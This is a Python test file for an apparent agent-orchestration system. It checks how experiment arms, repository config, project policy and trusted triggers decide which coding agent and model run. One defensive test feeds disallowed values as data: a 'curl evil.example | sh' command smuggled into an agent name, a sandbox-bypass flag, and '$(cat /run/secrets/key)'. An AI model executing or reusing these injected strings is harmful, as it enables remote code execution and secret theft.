"""An evolution experiment's arm as a level of the agent choice: above `.paid.yml` and the project,
below a trusted trigger, and never past the project's allowed agents (the run then falls back and is
not counted in the experiment)."""

from __future__ import annotations

import uuid
from pathlib import Path

import pytest
from faststream.nats import NatsBroker
from sqlalchemy.ext.asyncio import AsyncEngine
from temporalio.testing import WorkflowEnvironment

from paid_contracts import RepoRef
from paid_executor.agents.choice import (
    AgentChoice,
    AgentPolicy,
    ExperimentArmChoice,
    TriggerChoice,
    choose_agent,
    evolution_choice,
)
from paid_github_emulator.server import GitHubEmulator

from .conftest import BUGGY_CALC, FIXED_CALC, ISSUE_WITH_FIX, TEST_CALC, TOKEN
from .loop_support import loop_request, loop_worker, run_to_end, script_agent
from .test_workflow import run_events

PROJECT = AgentPolicy(agent="claude", model="claude-sonnet-4-5", allowed=frozenset({"codex", "aider"}))


def test_the_experiments_arm_wins_over_paid_yml_and_the_project() -> None:
    codex = ExperimentArmChoice(agent="codex", model="gpt-5-codex")
    choice = choose_agent(PROJECT, repository_agent="aider", repository_model="gpt-4o", experiment=codex)
    assert choice == AgentChoice("codex", "gpt-5-codex", "experiment", experiment_used=True)
    choice = choose_agent(PROJECT, repository_agent=None, repository_model=None, experiment=codex)
    assert choice == AgentChoice("codex", "gpt-5-codex", "experiment", experiment_used=True)


def test_an_arm_of_the_projects_agent_keeps_its_model_and_a_model_arm_changes_only_the_model() -> None:
    claude = ExperimentArmChoice(agent="claude")
    choice = choose_agent(PROJECT, repository_agent="aider", repository_model=None, experiment=claude)
    assert choice == AgentChoice("claude", "claude-sonnet-4-5", "experiment", experiment_used=True)
    opus = ExperimentArmChoice(model="claude-opus-4-1")
    choice = choose_agent(PROJECT, repository_agent=None, repository_model=None, experiment=opus)
    assert choice == AgentChoice("claude", "claude-opus-4-1", "experiment", experiment_used=True)


def test_an_arm_of_prompts_only_leaves_the_agent_to_the_run_and_is_counted() -> None:
    choice = choose_agent(
        PROJECT, repository_agent="codex", repository_model="gpt-5", experiment=ExperimentArmChoice()
    )
    assert choice == AgentChoice("codex", "gpt-5", ".paid.yml", experiment_used=True)


def test_outside_experiments_the_promoted_agent_is_applied_like_an_arm() -> None:
    """Evolution answers the agent and model promoted with the active prompt; with neither, and no
    experiment, the run keeps its own choice. A promoted agent the project does not allow is ignored."""
    assert evolution_choice(None, None, None, None) is None
    assert evolution_choice("exp-1", "candidate-1", None, None) == ExperimentArmChoice()
    promoted = evolution_choice(None, None, "codex", "gpt-5-codex")
    assert promoted == ExperimentArmChoice(agent="codex", model="gpt-5-codex")
    choice = choose_agent(PROJECT, repository_agent="aider", repository_model=None, experiment=promoted)
    assert (choice.agent, choice.model, choice.source) == ("codex", "gpt-5-codex", "experiment")
    refused = evolution_choice(None, None, "gemini", None)
    choice = choose_agent(PROJECT, repository_agent="aider", repository_model=None, experiment=refused)
    assert (choice.agent, choice.source) == ("aider", ".paid.yml")


@pytest.mark.parametrize("trigger", [TriggerChoice(agent="aider"), TriggerChoice(model="o3")])
def test_a_trusted_trigger_wins_over_the_experiment_and_the_run_is_not_counted(
    trigger: TriggerChoice,
) -> None:
    codex = ExperimentArmChoice(agent="codex", model="gpt-5-codex")
    choice = choose_agent(
        PROJECT, repository_agent=None, repository_model=None, trigger=trigger, experiment=codex
    )
    assert choice.source == "trigger"
    assert not choice.experiment_used
    assert choice.agent == (trigger.agent or "claude")


@pytest.mark.parametrize(
    "arm",
    [
        ExperimentArmChoice(agent="gemini"),  # known, not allowed by this project
        ExperimentArmChoice(agent="command"),  # the operator's command line, never an arm's
        ExperimentArmChoice(agent="codex; curl evil.example | sh"),
        ExperimentArmChoice(agent="codex", model="--dangerously-bypass-approvals-and-sandbox"),
        ExperimentArmChoice(model="$(cat /run/secrets/key)"),
    ],
)
def test_an_arm_the_project_does_not_allow_falls_back_without_error_and_is_not_counted(
    arm: ExperimentArmChoice,
) -> None:
    choice = choose_agent(PROJECT, repository_agent="aider", repository_model="gpt-4o", experiment=arm)
    assert choice == AgentChoice("aider", "gpt-4o", ".paid.yml", experiment_used=False)


@pytest.mark.parametrize(
    ("arm_agent", "ran_agent", "counted"),
    [
        # A whole fixing run (~19 s under load): heavy; the default run keeps the refused arm (~5 s).
        pytest.param("demo", "demo", True, marks=pytest.mark.heavy),
        ("gemini", "command", False),  # not allowed by this project
    ],
)
async def test_a_run_uses_its_arms_agent_and_names_the_arm_only_when_it_did(
    env: WorkflowEnvironment,
    emulator: GitHubEmulator,
    engine: AsyncEngine,
    broker: NatsBroker,
    tmp_path: Path,
    arm_agent: str,
    ran_agent: str,
    counted: bool,
) -> None:
    """The project's agent is a command that only leaves a mark; the run's arm names the demo agent
    (allowed), which fixes the issue, or gemini (not allowed): the command runs instead, and
    run.finished names no arm, so evolution does not count the run."""
    emulator.add_user("alice", TOKEN)
    name = f"calc-{uuid.uuid4().hex[:8]}"
    emulator.create_repository("alice", name, {"calc.py": BUGGY_CALC, "test_calc.py": TEST_CALC})
    emulator.create_issue("alice", name, title="add() subtracts", body=ISSUE_WITH_FIX, as_user="alice")
    ran = tmp_path / "ran"
    command = script_agent(tmp_path / "agent.py", f"pathlib.Path({str(ran)!r}).write_text('x')")
    settings = {"agent": "command", "agent_command": command, "allowed_agents": ["demo"]}
    request = loop_request(
        RepoRef(owner="alice", name=name),
        max_iterations=1,
        experiment_id="exp-1",
        experiment_arm="candidate-1",
        experiment_agent=arm_agent,
    )
    async with loop_worker(env, emulator, engine, broker, tmp_path / "ws", **settings) as worker:
        result = await run_to_end(env.client, request, worker.task_queue)

    finished = (await run_events(broker, result.run_id))["paid.run.finished"]
    assert finished["agent"] == ran_agent
    assert ran.exists() is not counted
    named = ("exp-1", "candidate-1") if counted else (None, None)
    assert (finished["experiment_id"], finished["arm"]) == named
    if counted:
        assert emulator.file_content("alice", name, "calc.py", ref="paid/issue-1") == FIXED_CALC
